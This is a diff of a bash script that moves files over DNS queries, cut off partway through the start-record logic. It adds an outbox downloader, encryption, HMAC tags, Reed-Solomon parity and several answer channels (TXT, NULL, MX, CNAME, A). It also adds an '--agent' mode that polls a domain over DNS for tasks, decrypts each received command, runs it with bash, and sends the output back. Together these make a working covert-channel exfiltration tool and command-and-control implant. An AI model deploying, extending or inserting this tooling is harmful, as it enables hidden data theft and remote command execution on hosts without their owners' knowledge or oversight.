@@ -1,69 +1,743 @@
 #!/bin/bash
 
 # Script to break a file into chunks and send via DNS queries
-# Usage: ./script.sh <file> [domain] [chunk_size] [dns_server]
+# Usage: ./script.sh <file|directory> [domain] [chunk_size] [dns_server]
+#        ./script.sh --list [domain] [dns_server]
+#        ./script.sh --get <name|id> [domain] [dns_server]
+#        ./script.sh --agent <agent_id> [domain] [dns_server]
 
 set -e
 
+# Defaults for the optional arguments
+# When this script is fetched from the server via DNS, the server fills in its
+# own domain and settings here, so the script works with just a file argument
+DEFAULT_DOMAIN="example.com"
+DEFAULT_CHUNK_SIZE=100
+DEFAULT_DNS_SERVER=""
+DEFAULT_MAX_PARALLEL=20
+
 if [ $# -lt 1 ]; then
-    echo "Usage: $0 <file> [domain] [chunk_size] [dns_server]"
-    echo "  file: File to transfer"
-    echo "  domain: Domain suffix (default: example.com)"
-    echo "  chunk_size: Size of each chunk in bytes (default: 100)"
-    echo "  dns_server: DNS server IP (default: system default)"
+    echo "Usage: $0 <file|directory> [domain] [chunk_size] [dns_server]"
+    echo "       $0 --list [domain] [dns_server]"
+    echo "       $0 --get <name|id> [domain] [dns_server]"
+    echo "       $0 --agent <agent_id> [domain] [dns_server]"
+    echo "  file: File to transfer, or a directory to send as a tar bundle"
+    echo "  --list: List files in the server's outbox"
+    echo "  --get: Download a file from the server's outbox by name or id"
+    echo "  --agent: Poll for tasks as agent_id (letters and digits), run each with bash and send its output back"
+    echo "  domain: Domain suffix (default: $DEFAULT_DOMAIN)"
+    echo "  chunk_size: Size of each chunk in bytes (default: $DEFAULT_CHUNK_SIZE)"
+    echo "  dns_server: DNS server IP (default: ${DEFAULT_DNS_SERVER:-system default})"
+    echo ""
+    echo "Environment:"
+    echo "  ENCODING: Label encoding: hex, b32 or b36 (default: b32 if basenc is available, else hex)"
+    echo "  COMPRESSION: Compress before sending: none, gzip or zstd (default: none)"
+    echo "  PSK: Pre-shared passphrase; encrypts the file when set (needs python3 with cryptography)"
+    echo "  CIPHER: Cipher used with PSK: aes-gcm or chacha20-poly1305 (default: aes-gcm)"
+    echo "  AUTH_SECRET: Shared secret for HMAC-tagging every record (needs python3)"
+    echo "  FEC: Send Reed-Solomon parity parts, <data>-<parity> per group, e.g. 10-2 (needs python3)"
+    echo "  QTYPE: Query type: TXT, A or auto (default: auto, TXT falling back to A)"
+    echo "  HOST_ID: Identify this host to the server's host registry (letters, digits and dashes)"
+    echo "  CHANNEL: Record type for answers: TXT, NULL, MX, CNAME or auto (default: auto, the fastest that works)"
+    echo "  POLL_INTERVAL: Seconds between agent polls (default: 30)"
+    echo "  TASK_ID: Send the file as the result of this agent task (set by --agent)"
     exit 1
 fi
 
+# Print the short answer for a name and query type
+dns_query() {
+    if [ -z "$DNS_SERVER" ]; then
+        dig +short "$1" "$2" 2>/dev/null || true
+    else
+        dig +short @"$DNS_SERVER" "$1" "$2" 2>/dev/null || true
+    fi
+}
+
+# Print the 24-bit values of an address answer in order, one per line. Each
+# A record holds one value after an index octet that restores the order
+# resolvers may shuffle.
+address_values() {
+    grep -E '^[0-9]+\.[0-9]+\.[0-9]+\.[0-9]+$' | sort -n -t. -k1,1 |
+        awk -F. '{ print $2 * 65536 + $3 * 256 + $4 }'
+}
+
+# Print an address acknowledgement in the TXT form ("OK <contiguous>
+# <outstanding>", or plain "OK" if the server doesn't know the transfer)
+address_ack() {
+    address_values | paste -sd' ' - |
+        awk 'NF >= 2 { if ($1 == 16777215) print "OK"; else print "OK", $1, ($2 == 16777215 ? -1 : $2) }'
+}
+
+# Print the strings of an answer, one per line, received over the CHANNEL
+# record type. NULL data holds the strings with a length byte before each;
+# MX exchanges (in preference order) and CNAME targets hold the same bytes in
+# base32hex labels under the domain.
+channel_strings() {
+    case "$CHANNEL" in
+        NULL)
+            dns_query "$1" NULL | awk '$1 == "\\#" { for (i = 3; i <= NF; i++) printf "%s", $i }' | decode_strings hex
+            ;;
+        MX)
+            dns_query "$1" MX | sort -n | awk '{ print $2 }' | channel_labels | decode_strings b32
+            ;;
+        CNAME)
+            dns_query "$1" CNAME | channel_labels | decode_strings b32
+            ;;
+        *)
+            dns_query "$1" TXT | grep -oE '"[^"]*"' | tr -d '"'
+            ;;
+    esac
+}
+
+# Join the labels of names under the domain, dropping the domain
+channel_labels() {
+    awk -v suffix=".$DOMAIN" '{
+        name = tolower($0)
+        sub(/\.$/, "", name)
+        if (substr(name, length(name) - length(suffix) + 1) == tolower(suffix))
+            name = substr(name, 1, length(name) - length(suffix))
+        gsub(/\./, "", name)
+        printf "%s", name
+    }'
+}
+
+# Decode hex or base32hex text and print the length-prefixed strings it holds
+decode_strings() {
+    LC_ALL=C awk -v mode="$1" '
+        BEGIN { digits = (mode == "hex") ? "0123456789abcdef" : "0123456789abcdefghijklmnopqrstuv" }
+        { text = text tolower($0) }
+        END {
+            n = 0
+            bits = 0
+            acc = 0
+            for (i = 1; i <= length(text); i++) {
+                value = index(digits, substr(text, i, 1)) - 1
+                if (value < 0)
+                    continue
+                if (mode == "hex") {
+                    acc = acc * 16 + value
+                    bits += 4
+                } else {
+                    acc = acc * 32 + value
+                    bits += 5
+                }
+                if (bits >= 8) {
+                    bits -= 8
+                    bytes[n++] = int(acc / 2 ^ bits)
+                    acc = acc % 2 ^ bits
+                }
+            }
+            for (i = 0; i < n; i += len + 1) {
+                len = bytes[i]
+                str = ""
+                for (j = i + 1; j <= i + len && j < n; j++)
+                    str = str sprintf("%c", bytes[j])
+                print str
+            }
+        }'
+}
+
+# Print the time in nanoseconds (seconds precision where date lacks %N)
+now_ns() {
+    local t
+    t=$(date +%s%N)
+    case "$t" in
+        *N) echo "${t%N}000000000" ;;
+        *) echo "$t" ;;
+    esac
+}
+
+# Print the HMAC tag label for a record's name, or nothing without AUTH_SECRET
+# Tag: first 16 hex chars of HMAC-SHA256(secret, labels and domain without the
+# tag label, lowercase, no trailing dot)
+# The secret is read from the environment, never passed on the command line
+record_tag() {
+    if [ -z "$AUTH_SECRET" ]; then
+        return
+    fi
+    AUTH_SECRET="$AUTH_SECRET" python3 -c 'import hashlib, hmac, os, sys
+print(".m-" + hmac.new(os.environ["AUTH_SECRET"].encode(), sys.argv[1].lower().strip(".").encode(), hashlib.sha256).hexdigest()[:16], end="")' "$1"
+}
+
+# Print the fastest record type whose answers survive the path, or TXT
+# Format: <nonce>.probe.<domain> answers with the nonce followed by "-",
+# repeated to 240 characters (the size of an outbox chunk)
+probe_channel() {
+    local type nonce expected start elapsed best="" best_time=0
+    for type in TXT NULL MX CNAME; do
+        nonce="$(date +%s)$RANDOM"
+        expected=$(awk -v n="$nonce" 'BEGIN { s = ""; while (length(s) < 240) s = s n "-"; print substr(s, 1, 240) }')
+        start=$(now_ns)
+        if [ "$(CHANNEL=$type channel_strings "${nonce}.probe.${DOMAIN}")" = "$expected" ]; then
+            elapsed=$(( $(now_ns) - start ))
+            if [ -z "$best" ] || [ $elapsed -lt $best_time ]; then
+                best=$type
+                best_time=$elapsed
+            fi
+        fi
+    done
+    echo "${best:-TXT}"
+}
+
+# Resolve CHANNEL=auto by probing
+select_channel() {
+    CHANNEL=$(echo "${CHANNEL:-auto}" | tr '[:lower:]' '[:upper:]')
+    if [ "$CHANNEL" = "AUTO" ]; then
+        CHANNEL=$(probe_channel)
+        echo "Receiving answers over $CHANNEL"
+    fi
+}
+
+# Print the outbox manifest, one "<id> <size> <chunks> <md5> <name>" line per file
+# Format: [page.]list.get.<domain> (as many files per page as fit one
+# response; the page after the last is empty)
+outbox_manifest() {
+    local page=1
+    local entries
+    while true; do
+        entries=$(channel_strings "${page}.list.get.${DOMAIN}")
+        if [ -z "$entries" ]; then
+            break
+        fi
+        echo "$entries"
+        page=$((page + 1))
+    done
+}
+
+# Print the missing part numbers of a transfer, one per line
+# Format: <counter>.v2-<from>.missing.<hash8>.<domain> answers with a header
+# "v2 <total_parts> <missing_count> <next>" and comma-separated ranges
+# (120-180,300); next is the part to continue from, or 0 at the end of the list.
+# Over A the answer is the values <total_parts> <missing_count> <next> followed
+# by <first> <last> pairs.
+missing_chunks() {
+    local counter="$1"
+    local hash="$2"
+    local from=1
+    local strings header next values
+    while true; do
+        if [ "$QTYPE" = "A" ]; then
+            values=$(dns_query "${counter}.v2-${from}.missing.${hash}.${DOMAIN}" A | address_values)
+            echo "$values" | tail -n +4 | paste -d' ' - - | while read -r first last; do
+                if [ -n "$first" ] && [ "$first" -gt 0 ]; then
+                    seq "$first" "${last:-$first}"
+                fi
+            done
+            next=$(echo "$values" | sed -n 3p)
+            if [ -z "$next" ] || [ "$next" = "0" ]; then
+                break
+            fi
+            from=$next
+            continue
+        fi
+
+        strings=$(channel_strings "${counter}.v2-${from}.missing.${hash}.${DOMAIN}")
+        header=$(echo "$strings" | head -n 1)
+        case "$header" in
+            "v2 "*) ;;
+            *)
+                # Older servers answer with one part number per record
+                echo "$strings" | grep -E '^[0-9]+$'
+                return
+                ;;
+        esac
+
+        echo "$strings" | tail -n +2 | tr ',' '\n' | while IFS=- read -r first last; do
+            if [ -n "$first" ]; then
+                seq "$first" "${last:-$first}"
+            fi
+        done
+
+        next=$(echo "$header" | cut -d' ' -f4)
+        if [ -z "$next" ] || [ "$next" = "0" ]; then
+            break
+        fi
+        from=$next
+    done
+}
+
+# Download mode: fetch a file from the server's outbox
+if [ "$1" = "--list" ] || [ "$1" = "--get" ]; then
+    MODE="$1"
+    shift
+    if [ "$MODE" = "--get" ]; then
+        if [ $# -lt 1 ]; then
+            echo "Usage: $0 --get <name|id> [domain] [dns_server]"
+            exit 1
+        fi
+        TARGET="$1"
+        shift
+    fi
+    DOMAIN="${1:-$DEFAULT_DOMAIN}"
+    DNS_SERVER="${2:-$DEFAULT_DNS_SERVER}"
+    select_channel
+
+    MANIFEST=$(outbox_manifest)
+    if [ "$MODE" = "--list" ]; then
+        if [ -z "$MANIFEST" ]; then
+            echo "Outbox is empty"
+            exit 0
+        fi
+        printf "%-8s  %10s  %s\n" "ID" "SIZE" "NAME"
+        echo "$MANIFEST" | while read -r id size chunks md5 name; do
+            printf "%-8s  %10s  %s\n" "$id" "$size" "$name"
+        done
+        exit 0
+    fi
+
+    ENTRY=$(echo "$MANIFEST" | while read -r id size chunks md5 name; do
+        if [ "$id" = "$TARGET" ] || [ "$name" = "$TARGET" ]; then
+            echo "$id $size $chunks $md5 $name"
+            break
+        fi
+    done)
+    if [ -z "$ENTRY" ]; then
+        echo "Error: '$TARGET' not found in the outbox"
+        exit 1
+    fi
+    read -r FILE_ID FILE_SIZE TOTAL_CHUNKS FILE_MD5 FILE_NAME <<< "$ENTRY"
+    OUT_FILE=$(basename "$FILE_NAME")
+
+    echo "Downloading: $FILE_NAME ($FILE_SIZE bytes, $TOTAL_CHUNKS chunks, id $FILE_ID)"
+
+    WORK_DIR=$(mktemp -d)
+    trap 'rm -rf "$WORK_DIR"' EXIT
+    MAX_PARALLEL=${MAX_PARALLEL:-$DEFAULT_MAX_PARALLEL}
+
+    # Fetch one chunk (1-based) into the work directory
+    # Format: chunk_num.id.get.<domain>
+    fetch_chunk() {
+        channel_strings "$1.${FILE_ID}.get.${DOMAIN}" | tr -d '\n' > "$WORK_DIR/$1"
+    }
+
+    # Fetch all chunks, then retry missing ones until every chunk has arrived
+    CHUNK_LIST=$(seq 1 "$TOTAL_CHUNKS")
+    RETRY_COUNT=0
+    RETRY_DELAY=${RETRY_DELAY:-0}
+    while [ -n "$CHUNK_LIST" ]; do
+        for chunk_num in $CHUNK_LIST; do
+            while [ $(jobs -r | wc -l) -ge $MAX_PARALLEL ]; do
+                sleep 0.01
+            done
+            fetch_chunk "$chunk_num" &
+        done
+        wait
+
+        CHUNK_LIST=""
+        for ((i = 1; i <= TOTAL_CHUNKS; i++)); do
+            if [ ! -s "$WORK_DIR/$i" ]; then
+                CHUNK_LIST="$CHUNK_LIST $i"
+            fi
+        done
+        if [ -n "$CHUNK_LIST" ]; then
+            RETRY_COUNT=$((RETRY_COUNT + 1))
+            echo "Retry attempt $RETRY_COUNT: missing chunk(s):$CHUNK_LIST"
+            sleep $RETRY_DELAY
+        fi
+    done
+
+    for ((i = 1; i <= TOTAL_CHUNKS; i++)); do
+        cat "$WORK_DIR/$i"
+    done | base64 -d > "$OUT_FILE"
+
+    if [ "$(md5sum "$OUT_FILE" | cut -d' ' -f1)" != "$FILE_MD5" ]; then
+        echo "Error: $OUT_FILE does not match its MD5 ($FILE_MD5)"
+        exit 1
+    fi
+    echo "Download complete! Saved as: $OUT_FILE"
+    exit 0
+fi
+
+# Agent mode: poll for tasks, run each command and send its output back as a
+# transfer carrying t-<task_id>
+if [ "$1" = "--agent" ]; then
+    if [ $# -lt 2 ]; then
+        echo "Usage: $0 --agent <agent_id> [domain] [dns_server]"
+        exit 1
+    fi
+    AGENT_ID=$(echo "$2" | tr '[:upper:]' '[:lower:]')
+    DOMAIN="${3:-$DEFAULT_DOMAIN}"
+    DNS_SERVER="${4:-$DEFAULT_DNS_SERVER}"
+    POLL_INTERVAL=${POLL_INTERVAL:-30}
+    if ! echo "$AGENT_ID" | grep -Eq '^[a-z0-9]{1,32}$'; then
+        echo "Error: agent_id must be 1-32 letters and digits"
+        exit 1
+    fi
+    # Results are sent by running this script again on the output file
+    if [ ! -f "$0" ]; then
+        echo "Error: --agent needs the script saved to a file"
+        exit 1
+    fi
+    if [ -n "$AUTH_SECRET" ] && ! command -v python3 > /dev/null 2>&1; then
+        echo "Error: AUTH_SECRET requires python3"
+        exit 1
+    fi
+    if [ -n "$PSK" ] && ! python3 -c 'import cryptography' > /dev/null 2>&1; then
+        echo "Error: PSK requires python3 with the cryptography package"
+        exit 1
+    fi
+    select_channel
+
+    WORK_DIR=$(mktemp -d)
+    trap 'rm -rf "$WORK_DIR"' EXIT
+
+    # Print a poll or task chunk query name, with the m-<tag> label in front
+    # when AUTH_SECRET is set
+    session_query() {
+        local tag
+        tag=$(record_tag "$1")
+        echo "${tag:+${tag#.}.}$1"
+    }
+
+    echo "Agent $AGENT_ID polling $DOMAIN every ${POLL_INTERVAL}s"
+    SEQ=0
+    while true; do
+        # Poll: <seq>.poll.<agentid>.<domain> answers "task <id> <chunks>"
+        # ("task <id> <chunks> aes-gcm <nonce>" when encrypted) or "idle"
+        SEQ=$((SEQ + 1))
+        POLL=$(channel_strings "$(session_query "${SEQ}${RANDOM}.poll.${AGENT_ID}.${DOMAIN}")" | head -n 1)
+        read -r KIND TASK TASK_CHUNKS TASK_CIPHER TASK_NONCE <<< "$POLL" || true
+        if [ "$KIND" != "task" ]; then
+            sleep "$POLL_INTERVAL"
+            continue
+        fi
+        echo "Task $TASK: fetching $TASK_CHUNKS chunk(s)"
+
+        # Chunk: <chunk_num>.<id>.task.<agentid>.<domain>; fetching the last
+        # one tells the server the task arrived
+        rm -f "$WORK_DIR"/*
+        for ((i = 1; i <= TASK_CHUNKS; i++)); do
+            for attempt in 1 2 3; do
+                channel_strings "$(session_query "${i}.${TASK}.task.${AGENT_ID}.${DOMAIN}")" | tr -d '\n' > "$WORK_DIR/chunk"
+                if [ -s "$WORK_DIR/chunk" ]; then
+                    break
+                fi
+            done
+            cat "$WORK_DIR/chunk" >> "$WORK_DIR/payload.b64"
+        done
+        if ! base64 -d < "$WORK_DIR/payload.b64" > "$WORK_DIR/payload" 2>/dev/null; then
+            echo "Task $TASK: could not decode the command"
+            continue
+        fi
+
+        # Encrypted tasks: AES-256-GCM under the transfer key with
+        # "<agentid>/<id>" as additional data
+        if [ "$TASK_CIPHER" = "aes-gcm" ]; then
+            if [ -z "$PSK" ]; then
+                echo "Task $TASK: encrypted, but PSK is not set"
+                continue
+            fi
+            if ! PSK="$PSK" NONCE_HEX="$TASK_NONCE" AD="${AGENT_ID}/${TASK}" \
+                python3 - "$WORK_DIR/payload" "$WORK_DIR/command" <<'PYEOF'
+import hashlib, os, sys
+from cryptography.hazmat.primitives.ciphers.aead import AESGCM
+
+key = hashlib.pbkdf2_hmac("sha256", os.environ["PSK"].encode(), b"youkaidns", 100000, 32)
+with open(sys.argv[1], "rb") as f:
+    sealed = f.read()
+command = AESGCM(key).decrypt(bytes.fromhex(os.environ["NONCE_HEX"]), sealed, os.environ["AD"].encode())
+with open(sys.argv[2], "wb") as f:
+    f.write(command)
+PYEOF
+            then
+                echo "Task $TASK: could not decrypt the command"
+                continue
+            fi
+        else
+            mv "$WORK_DIR/payload" "$WORK_DIR/command"
+        fi
+
+        echo "Task $TASK: running"
+        RESULT="$WORK_DIR/task-${TASK}.txt"
+        bash "$WORK_DIR/command" > "$RESULT" 2>&1 < /dev/null || true
+        TASK_ID="$TASK" HOST_ID="$AGENT_ID" CHANNEL="$CHANNEL" \
+            "$0" "$RESULT" "$DOMAIN" "$DEFAULT_CHUNK_SIZE" "$DNS_SERVER" || echo "Task $TASK: sending the result failed"
+    done
+fi
+
 FILE="$1"
-DOMAIN="${2:-example.com}"
-CHUNK_SIZE="${3:-100}"
-DNS_SERVER="${4:-}"
+DOMAIN="${2:-$DEFAULT_DOMAIN}"
+CHUNK_SIZE="${3:-$DEFAULT_CHUNK_SIZE}"
+DNS_SERVER="${4:-$DEFAULT_DNS_SERVER}"
+
+# Temp files removed on exit
+TMP_FILES=""
+trap 'rm -f $TMP_FILES' EXIT
 
-# Check if file exists
-if [ ! -f "$FILE" ]; then
+# A directory is sent as a tar bundle (b-tar), which the server unpacks into
+# its own directory with permissions and modification times kept
+BUNDLE_DIR=""
+if [ -d "$FILE" ]; then
+    BUNDLE_DIR="${FILE%/}"
+    FILE=$(mktemp)
+    TMP_FILES="$TMP_FILES $FILE"
+    tar -cf "$FILE" -C "$BUNDLE_DIR" .
+elif [ ! -f "$FILE" ]; then
     echo "Error: File '$FILE' not found"
     exit 1
 fi
 
+# Label encoding for filename and chunk data
+# hex is understood by every server; b32 (base32hex) needs basenc from coreutils;
+# b36 is pure bash arithmetic, so it is slower but works anywhere
+if [ -z "$ENCODING" ]; then
+    if command -v basenc > /dev/null 2>&1; then
+        ENCODING=b32
+    else
+        ENCODING=hex
+    fi
+fi
+case "$ENCODING" in
+    hex|b36) ;;
+    b32)
+        if ! command -v basenc > /dev/null 2>&1; then
+            echo "Error: ENCODING=b32 requires basenc (coreutils 8.31+)"
+            exit 1
+        fi
+        ;;
+    *)
+        echo "Error: Unknown ENCODING '$ENCODING' (want hex, b32 or b36)"
+        exit 1
+        ;;
+esac
+
+# Compression applied to the file before chunking
+COMPRESSION="${COMPRESSION:-none}"
+case "$COMPRESSION" in
+    none|gzip) ;;
+    zstd)
+        if ! command -v zstd > /dev/null 2>&1; then
+            echo "Error: COMPRESSION=zstd requires the zstd command"
+            exit 1
+        fi
+        ;;
+    *)
+        echo "Error: Unknown COMPRESSION '$COMPRESSION' (want none, gzip or zstd)"
+        exit 1
+        ;;
+esac
+
+# Encryption with a pre-shared passphrase, applied after compression
+CIPHER="${CIPHER:-aes-gcm}"
+if [ -n "$PSK" ]; then
+    case "$CIPHER" in
+        aes-gcm|chacha20-poly1305) ;;
+        *)
+            echo "Error: Unknown CIPHER '$CIPHER' (want aes-gcm or chacha20-poly1305)"
+            exit 1
+            ;;
+    esac
+    if ! python3 -c 'import cryptography' > /dev/null 2>&1; then
+        echo "Error: PSK requires python3 with the cryptography package"
+        exit 1
+    fi
+fi
+
+# Optional host ID, sent as the h- start option
+HOST_ID=$(echo "$HOST_ID" | tr '[:upper:]' '[:lower:]')
+if [ -n "$HOST_ID" ] && ! echo "$HOST_ID" | grep -Eq '^[a-z0-9-]{1,63}$'; then
+    echo "Error: HOST_ID must be 1-63 letters, digits and dashes"
+    exit 1
+fi
+
+# Optional agent task this file is the result of, sent as the t- start option
+if [ -n "$TASK_ID" ] && ! echo "$TASK_ID" | grep -Eq '^[1-9][0-9]*$'; then
+    echo "Error: TASK_ID must be a task number"
+    exit 1
+fi
+
+if [ -n "$AUTH_SECRET" ] && ! command -v python3 > /dev/null 2>&1; then
+    echo "Error: AUTH_SECRET requires python3"
+    exit 1
+fi
+
+# Encode a hex string as base36 in 7-byte blocks (11 digits per full block)
+encode_base36() {
+    local hex_str="$1"
+    local alphabet="0123456789abcdefghijklmnopqrstuvwxyz"
+    local result=""
+    local i j block width value digits
+
+    for ((i = 0; i < ${#hex_str}; i += 14)); do
+        block="${hex_str:$i:14}"
+        case $(( ${#block} / 2 )) in
+            1) width=2 ;;
+            2) width=4 ;;
+            3) width=5 ;;
+            4) width=7 ;;
+            5) width=8 ;;
+            6) width=10 ;;
+            *) width=11 ;;
+        esac
+        value=$((16#$block))
+        digits=""
+        for ((j = 0; j < width; j++)); do
+            digits="${alphabet:$((value % 36)):1}${digits}"
+            value=$((value / 36))
+        done
+        result="${result}${digits}"
+    done
+
+    echo -n "$result"
+}
+
+# Encode stdin as label text using $ENCODING
+encode_data() {
+    case "$ENCODING" in
+        b32) basenc --base32hex -w0 | tr -d '=' | tr 'A-Z' 'a-z' ;;
+        b36) encode_base36 "$(xxd -p | tr -d '\n')" ;;
+        *) xxd -p | tr -d '\n' ;;
+    esac
+}
+
 # Get filename (basename only)
-FILENAME=$(basename "$FILE")
+if [ -n "$BUNDLE_DIR" ]; then
+    FILENAME="$(basename "$BUNDLE_DIR").tar"
+else
+    FILENAME=$(basename "$FILE")
+fi
 
 # Generate hash8 (8 hex characters) - using first 8 chars of file's md5
 HASH8=$(md5sum "$FILE" | cut -d' ' -f1 | cut -c1-8)
 
-# Encode filename to hex
-FILENAME_HEX=$(echo -n "$FILENAME" | xxd -p | tr -d '\n')
+# Encode filename
+FILENAME_ENC=$(echo -n "$FILENAME" | encode_data)
+
+# Get size of a file in bytes
+file_size() {
+    stat -f%z "$1" 2>/dev/null || stat -c%s "$1" 2>/dev/null || wc -c < "$1"
+}
 
 # Get file size
-FILE_SIZE=$(stat -f%z "$FILE" 2>/dev/null || stat -c%s "$FILE" 2>/dev/null || wc -c < "$FILE")
+FILE_SIZE=$(file_size "$FILE")
+
+# Compress into a temp file if requested; PAYLOAD is what actually gets chunked
+PAYLOAD="$FILE"
+if [ "$COMPRESSION" != "none" ]; then
+    PAYLOAD=$(mktemp)
+    TMP_FILES="$TMP_FILES $PAYLOAD"
+    case "$COMPRESSION" in
+        gzip) gzip -9 -c "$FILE" > "$PAYLOAD" ;;
+        zstd) zstd -q -19 -c "$FILE" > "$PAYLOAD" ;;
+    esac
+fi
+
+# Encrypt the payload if a passphrase is set
+# key = PBKDF2-HMAC-SHA256(PSK, "youkaidns", 100000, 32); the hash is bound as
+# additional data and the output is ciphertext followed by the 16-byte tag
+if [ -n "$PSK" ]; then
+    ENCRYPTED=$(mktemp)
+    TMP_FILES="$TMP_FILES $ENCRYPTED"
+    NONCE_HEX=$(od -An -N12 -tx1 /dev/urandom | tr -d ' \n')
+    # The passphrase is passed through the environment, never on the command line
+    PSK="$PSK" CIPHER="$CIPHER" NONCE_HEX="$NONCE_HEX" HASH8="$HASH8" \
+        python3 - "$PAYLOAD" "$ENCRYPTED" <<'PYEOF'
+import hashlib, os, sys
+from cryptography.hazmat.primitives.ciphers.aead import AESGCM, ChaCha20Poly1305
+
+key = hashlib.pbkdf2_hmac("sha256", os.environ["PSK"].encode(), b"youkaidns", 100000, 32)
+aead = AESGCM(key) if os.environ["CIPHER"] == "aes-gcm" else ChaCha20Poly1305(key)
+with open(sys.argv[1], "rb") as f:
+    data = f.read()
+sealed = aead.encrypt(bytes.fromhex(os.environ["NONCE_HEX"]), data, os.environ["HASH8"].encode())
+with open(sys.argv[2], "wb") as f:
+    f.write(sealed)
+PYEOF
+    PAYLOAD="$ENCRYPTED"
+fi
+PAYLOAD_SIZE=$(file_size "$PAYLOAD")
 
 # Calculate total parts
-TOTAL_PARTS=$(( (FILE_SIZE + CHUNK_SIZE - 1) / CHUNK_SIZE ))
+TOTAL_PARTS=$(( (PAYLOAD_SIZE + CHUNK_SIZE - 1) / CHUNK_SIZE ))
 
-echo "File: $FILE"
+# Reed-Solomon parity parts: for every group of FEC_DATA data parts, FEC_PARITY
+# parity parts numbered after the data parts (see server/fec.go for the code).
+# PARITY_FILE holds them in order, each CHUNK_SIZE bytes.
+FEC_DATA=0
+FEC_PARITY=0
+PARITY_PARTS=0
+if [ -n "$FEC" ] && [ "$FEC" != "none" ]; then
+    FEC_DATA=${FEC%-*}
+    FEC_PARITY=${FEC#*-}
+    PARITY_FILE=$(mktemp)
+    TMP_FILES="$TMP_FILES $PARITY_FILE"
+    python3 - "$PAYLOAD" "$PARITY_FILE" "$CHUNK_SIZE" "$FEC_DATA" "$FEC_PARITY" <<'PYEOF'
+import sys
+
+exp, log = [0] * 512, [0] * 256
+x = 1
+for i in range(255):
+    exp[i], log[x] = x, i
+    x <<= 1
+    if x & 0x100:
+        x ^= 0x11d
+for i in range(255, 512):
+    exp[i] = exp[i - 255]
+
+def mul(a, b):
+    return 0 if a == 0 or b == 0 else exp[log[a] + log[b]]
+
+def div(a, b):
+    return 0 if a == 0 else exp[log[a] + 255 - log[b]]
+
+src, dst, size, k, m = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), int(sys.argv[5])
+with open(src, "rb") as f:
+    data = f.read()
+total = (len(data) + size - 1) // size
+with open(dst, "wb") as out:
+    for first in range(0, total, k):
+        shards = [data[p * size:(p + 1) * size].ljust(size, b"\0") for p in range(first, min(first + k, total))]
+        for j in range(m):
+            parity = 0
+            for i, shard in enumerate(shards):
+                table = bytes(mul(div(255 ^ i, (255 - j) ^ i), v) for v in range(256))
+                parity ^= int.from_bytes(shard.translate(table), "big")
+            out.write(parity.to_bytes(size, "big"))
+PYEOF
+    PARITY_PARTS=$(( (TOTAL_PARTS + FEC_DATA - 1) / FEC_DATA * FEC_PARITY ))
+fi
+
+if [ -n "$BUNDLE_DIR" ]; then
+    echo "Directory: $BUNDLE_DIR (sent as a tar bundle)"
+else
+    echo "File: $FILE"
+fi
 echo "Filename: $FILENAME"
 echo "Size: $FILE_SIZE bytes"
+if [ "$COMPRESSION" != "none" ]; then
+    echo "Compression: $COMPRESSION"
+fi
+if [ -n "$PSK" ]; then
+    echo "Encryption: $CIPHER"
+fi
+if [ "$PAYLOAD" != "$FILE" ]; then
+    echo "On the wire: $PAYLOAD_SIZE bytes"
+fi
 echo "Chunk size: $CHUNK_SIZE bytes"
 echo "Total parts: $TOTAL_PARTS"
+if [ $PARITY_PARTS -gt 0 ]; then
+    echo "FEC: $FEC_PARITY parity part(s) per $FEC_DATA data parts ($PARITY_PARTS in total)"
+fi
 echo "Hash: $HASH8"
 echo "Domain: $DOMAIN"
+echo "Encoding: $ENCODING"
 echo ""
 
 # Maximum number of parallel DNS queries (adjust based on your system)
-MAX_PARALLEL=${MAX_PARALLEL:-20}
+MAX_PARALLEL=${MAX_PARALLEL:-$DEFAULT_MAX_PARALLEL}
 
-# Function to split hex string into DNS labels (max 63 chars per label)
-split_hex_labels() {
-    local hex_str="$1"
+# Function to split encoded data into DNS labels (max 63 chars per label)
+split_labels() {
+    local data_str="$1"
     local result=""
-    local len=${#hex_str}
+    local len=${#data_str}
     local i=0
     
     while [ $i -lt $len ]; do
         if [ -n "$result" ]; then
             result="${result}."
         fi
-        result="${result}${hex_str:$i:63}"
+        result="${result}${data_str:$i:63}"
         i=$((i + 63))
     done
     
@@ -71,15 +745,54 @@ split_hex_labels() {
 }
 
 # Build start record query
-# Format: filename_hex.total_parts.chunk_size.total_bytes.start.hash8.<domain>
-FILENAME_HEX_LABELS=$(split_hex_labels "$FILENAME_HEX")
-START_QUERY="${FILENAME_HEX_LABELS}.${TOTAL_PARTS}.${CHUNK_SIZE}.${FILE_SIZE}.start.${HASH8}.${DOMAIN}"
+# Format: filename_enc.total_parts.chunk_size.total_bytes.start[.key-value...].hash8.<domain>
+# Default options (hex, no compression, no encryption) are omitted so older servers still understand it
+# With AUTH_SECRET an m-<tag> label goes right before the hash
+START_OPTIONS=""
+if [ "$ENCODING" != "hex" ]; then
+    START_OPTIONS="${START_OPTIONS}.e-${ENCODING}"
+fi
+if [ "$COMPRESSION" != "none" ]; then
+    START_OPTIONS="${START_OPTIONS}.c-${COMPRESSION}"
+fi
+if [ -n "$PSK" ]; then
+    START_OPTIONS="${START_OPTIONS}.x-${CIPHER}.n-${NONCE_HEX}"
+fi
+if [ "$PAYLOAD" != "$FILE" ]; then
+    START_OPTIONS="${START_OPTIONS}.s-${FILE_SIZE}"
+fi
+if [ $PARITY_PARTS -gt 0 ]; then
+    START_OPTIONS="${START_OPTIONS}.f-${FEC_DATA}-${FEC_PARITY}"
+fi
+if [ -n "$BUNDLE_DIR" ]; then
+    START_OPTIONS="${START_OPTIONS}.b-tar"
+fi
+if [ -n "$HOST_ID" ]; then
+    START_OPTIONS="${START_OPTIONS}.h-${HOST_ID}"
+fi
+if [ -n "$TASK_ID" ]; then
+    START_OPTIONS="${START_OPTIONS}.t-${TASK_ID}"
+fi
+FILENAME_LABELS=$(split_labels "$FILENAME_ENC")
+START_LABELS="${FILENAME_LABELS}.${TOTAL_PARTS}.${CHUNK_SIZE}.${PAYLOAD_SIZE}.start${START_OPTIONS}"
+START_QUERY="${START_LABELS}$(record_tag "${START_LABELS}.${HASH8}.${DOMAIN}").${HASH8}.${DOMAIN}"
 
+# Some resolvers only forward A queries or strip TXT answers: unless QTYPE is
+# set, fall back to A when the start record gets no TXT acknowledgement
+QTYPE=$(echo "${QTYPE:-auto}" | tr '[:lower:]' '[:upper:]')
+select_channel
 echo "Sending start record..."
-if [ -z "$DNS_SERVER" ]; then
-    dig +short "$START_QUERY" TXT > /dev/null 2>&1 || true
+if [ "$QTYPE" = "A" ]; then
+    dns_query "$START_QUERY" A > /dev/null
 else
-    dig +short @"$DNS_SERVER" "$START_QUERY" TXT > /dev/null 2>&1 || true
